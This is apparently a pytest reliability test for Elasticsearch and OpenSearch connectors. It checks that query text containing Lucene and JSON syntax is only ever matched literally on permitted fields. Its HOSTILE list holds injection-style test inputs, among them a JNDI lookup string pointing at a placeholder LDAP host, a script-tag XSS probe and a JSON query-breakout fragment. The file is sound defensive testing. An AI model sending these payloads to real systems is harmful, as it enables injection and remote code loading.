"""Query text full of Lucene and JSON syntax is only ever a match value, on the allowed fields.

Two layers of proof:

* the body builder (pure): for hostile and for arbitrary generated text, the
  body equals the body built for a plain word except for the ``query`` value of
  the one ``multi_match``, whose fields are the configured ones; no parser that
  reads syntax (``query_string``, ``simple_query_string``, ``regexp``, ...)
  appears in it;
* a real engine (both, in turn): every hostile query succeeds, and returns
  exactly the documents a literal match would. The oracle is independent of the
  connector: the engine's own ``_analyze`` turns the query and each document's
  allowed fields into tokens, and a document matches when they share one. A
  field that is not allowed (``secret``) never makes a document match.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from secondpass.connectors import ElasticsearchConnector, OpenSearchConnector
from secondpass.connectors._query import search_body
from secondpass.types import SearchRequest
from tests.reliability._common import temp_index

pytestmark = [pytest.mark.reliability, pytest.mark.integration]

SYNC = {"elasticsearch": ElasticsearchConnector, "opensearch": OpenSearchConnector}
FIELDS = ["title^2", "body"]
HOSTILE = [
    "*x",
    "*",
    "?",
    "field:",
    "title:cat",
    "secret:hidden",
    "_exists_:secret",
    "_exists_:title",
    "/ca.*/",
    "/.*/",
    "cat~2",
    "dog^100",
    "[a TO z]",
    "{* TO *}",
    "cat AND NOT dog",
    "cat || dog && !bird",
    "(" * 5000 + "owl" + ")" * 5000,
    "cat\x00dog",
    "\x00",
    '{"match_all": {}}',
    '"}}, "query": {"match_all": {}}, "x": {"',
    '\\"cat\\"',
    "${jndi:ldap://example.invalid/x}",
    "<script>alert(1)</script> fox",
    "body:* OR title:*",
    "+owl -cat",
]
# The body keys that would parse the user's text as syntax (never allowed to carry it).
SYNTAX_PARSERS = {"query_string", "simple_query_string", "regexp", "wildcard", "prefix", "fuzzy", "script"}
DOCS = [
    {"_id": "plain-cat", "title": "cat", "body": "the cat sat on the mat"},
    {"_id": "field-colon", "title": "notes", "body": "field: value and title: words"},
    {"_id": "hidden", "title": "nothing to see", "body": "plain text", "secret": "hidden cat dog owl exists"},
    {"_id": "dog-fox", "title": "dog", "body": "a quick brown fox"},
    {"_id": "owl", "title": "owl", "body": "an owl at night"},
    {"_id": "script", "title": "script alert", "body": "jndi ldap example invalid"},
    {"_id": "exists", "title": "exists", "body": "secret title match all"},
    {"_id": "xx", "title": "x", "body": "to z and a"},
]
MAPPINGS = {
    "properties": {
        "title": {"type": "text"},
        "body": {"type": "text"},
        "secret": {"type": "text"},
    }
}


def _keys(node: Any) -> set[str]:
    if isinstance(node, dict):
        return set(node) | {k for v in node.values() for k in _keys(v)}
    if isinstance(node, list):
        return {k for v in node for k in _keys(v)}
    return set()


def _check_body(text: str) -> None:
    """The body for ``text`` is the body for a plain word with only the match value swapped."""
    for engine in ("elasticsearch", "opensearch"):

        def build(query: str, engine: Any = engine) -> dict[str, Any]:
            return search_body(
                SearchRequest(query, size=10), engine=engine, fields=FIELDS, text_fields=["title", "body"], timeout_s=5
            )

        body, reference = build(text), build("plainword")
        match = body["query"]["bool"]["must"][0]["multi_match"]
        assert match == {"query": text, "fields": FIELDS}
        match["query"] = "plainword"
        assert body == reference, "the text changed the body beyond the match value"
        assert not _keys(reference) & SYNTAX_PARSERS


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_body_builder_puts_hostile_text_only_in_the_match_value(text: str) -> None:
    _check_body(text)


@settings(max_examples=500, deadline=None, suppress_health_check=list(HealthCheck), database=None)
@given(text=st.text(st.characters(exclude_categories=()), min_size=1, max_size=300))
def test_body_builder_puts_any_text_only_in_the_match_value(text: str) -> None:
    _check_body(text)


@pytest.fixture(scope="module")
def hostile_index(engine: Any) -> Iterator[tuple[str, str, str]]:
    with temp_index(engine.url, DOCS, mappings=MAPPINGS) as name:
        yield engine.name, engine.url, name


def _tokens(client: httpx.Client, index: str, text: str) -> set[str]:
    r = client.post(f"/{index}/_analyze", json={"field": "body", "text": text})
    r.raise_for_status()
    return {t["token"] for t in r.json()["tokens"]}


def test_hostile_queries_succeed_and_match_literally_on_a_real_engine(
    hostile_index: tuple[str, str, str], figures: Any
) -> None:
    name, url, index = hostile_index
    with httpx.Client(base_url=url, timeout=30) as raw:
        doc_tokens = {d["_id"]: _tokens(raw, index, f"{d['title']} {d['body']}") for d in DOCS}
        expected = {}
        for text in HOSTILE:
            query_tokens = _tokens(raw, index, text)
            expected[text] = {doc for doc, tokens in doc_tokens.items() if tokens & query_tokens}
    checked = 0
    with SYNC[name](index=index, fields=FIELDS, hosts=[url]) as connector:
        for text in HOSTILE:
            hits = connector.search(SearchRequest(text, size=50))
            assert {h.id for h in hits} == expected[text], f"query {text[:60]!r}"
            assert "hidden" not in {h.id for h in hits} or expected[text] >= {"hidden"}
            checked += 1
    # The "secret" field is not searched: its words find nothing through the connector.
    with SYNC[name](index=index, fields=FIELDS, hosts=[url]) as connector:
        assert {h.id for h in connector.search(SearchRequest("hidden exists", size=50))} == {"exists"}
    figures.add(f"hostile query text ({name})", "queries matching exactly the literal oracle", checked, f"of {len(HOSTILE)}")
